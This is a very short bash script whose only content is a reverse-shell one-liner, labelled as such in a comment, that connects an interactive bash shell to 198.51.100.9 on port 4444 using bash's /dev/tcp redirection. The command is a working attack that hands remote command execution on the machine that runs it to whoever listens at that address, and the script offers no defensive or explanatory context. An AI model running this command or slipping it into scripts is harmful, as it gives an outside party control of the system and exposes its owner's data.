#!/bin/bash
# A reverse shell through bash's network redirection.
bash -i >& /dev/tcp/198.51.100.9/4444 0>&1
